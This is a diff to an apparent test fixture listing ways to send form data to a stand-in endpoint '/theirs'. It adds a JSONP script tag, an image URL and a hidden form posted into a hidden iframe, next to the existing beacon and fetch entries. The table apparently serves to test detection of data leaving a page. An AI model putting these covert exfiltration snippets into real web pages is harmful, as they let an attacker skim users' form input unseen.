@@ -51,6 +51,22 @@ const sending: [string, string, string?][] = [
   ['by a beacon', "navigator.sendBeacon('/theirs', data)"],
   ['by a beacon of bytes', `navigator.sendBeacon('/theirs', new Blob([${json}]))`],
   [
+    'by a script’s address, as JSONP',
+    "document.head.append(Object.assign(document.createElement('script'), { src: '/theirs?' + new URLSearchParams(data) }))",
+  ],
+  ['by an image’s address', "new Image().src = '/theirs?' + new URLSearchParams(data)"],
+  [
+    'by a second form into a hidden frame',
+    `const copy = document.createElement('form');
+    Object.assign(copy, { action: '/theirs', method: 'post', target: 'unseen' });
+    for (const [name, value] of data) {
+      copy.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
+    }
+    document.body.append(copy);
+    copy.submit();`,
+    '<iframe name="unseen" hidden></iframe>',
+  ],
+  [
     'after it asked its own server',
     "fetch('/theirs').then(() => fetch('/theirs', { method: 'POST', body: data }))",
   ],
